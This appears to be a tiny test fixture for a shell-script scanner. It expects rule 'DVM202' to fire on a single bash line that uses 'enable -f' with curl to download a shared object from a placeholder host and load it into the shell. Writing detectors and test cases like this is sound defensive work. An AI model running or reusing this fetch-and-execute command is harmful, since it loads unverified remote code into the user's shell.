# expect: DVM202
enable -f <(curl -s https://x.example.org/a.so) x
